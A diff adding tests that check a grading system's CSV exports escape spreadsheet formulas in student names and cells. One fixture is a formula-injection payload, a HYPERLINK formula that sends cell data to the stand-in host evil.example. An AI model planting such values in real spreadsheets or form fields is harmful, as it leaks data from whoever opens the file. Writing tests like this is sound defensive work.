@@ -337,6 +337,48 @@ def test_gradebooks_leave_out_lti_placeholder_emails(client, course, paraboloid,
     assert "invalid" not in page.get_data(as_text=True)
 
 
+def test_exports_never_hand_a_spreadsheet_a_formula(client, course, paraboloid, instructor, staff_token):
+    """A display name such as =HYPERLINK(...) would run as a formula when staff open the CSV."""
+    import csv
+    import io
+
+    from .test_pages import login
+
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"Ada")'
+    student = new_user(course, name=formula)
+    grade(upload(client, paraboloid.id, issue_token(student, "t", ["read", "submit"]))["id"], score=70.0)
+
+    def cells(response) -> list[str]:  # type: ignore[no-untyped-def]
+        assert response.status_code == 200
+        return [cell for row in csv.reader(io.StringIO(response.get_data(as_text=True))) for cell in row]
+
+    for fmt in ("canvas", "moodle"):
+        got = cells(
+            client.get(
+                f"{PREFIX}/assignments/{paraboloid.id}/grades.csv?format={fmt}", headers=bearer(staff_token)
+            )
+        )
+        assert "'" + formula in got and formula not in got and "70" in got
+    login(client, instructor)
+    got = cells(client.get(f"/assignments/{paraboloid.id}/scoreboard.csv"))
+    assert "'" + formula in got and formula not in got and "70.0" in got
+    assert not [cell for cell in got if cell[:1] in ("=", "+", "-", "@")]
+
+
+def test_a_spreadsheet_cell_keeps_numbers_as_numbers():
+    from grader.submissions.spreadsheet import csv_text, safe_cell
+
+    assert safe_cell(-0.5) == -0.5 and safe_cell(None) == "" and safe_cell("Ada") == "Ada"
+    assert [safe_cell(t) for t in ("+1", "-1", "@SUM(A1)", "\tx", "\rx")] == [
+        "'+1",
+        "'-1",
+        "'@SUM(A1)",
+        "'\tx",
+        "'\rx",
+    ]
+    assert csv_text([["=1+1", -2.5, None]]) == "'=1+1,-2.5,\r\n"
+
+
 def test_gradescope_results_json(client, course, paraboloid, student_token, staff_token):
     mine = upload(client, paraboloid.id, student_token)
     _problem(client.get(f"{mine['url']}/results.json", headers=bearer(staff_token)), 409)
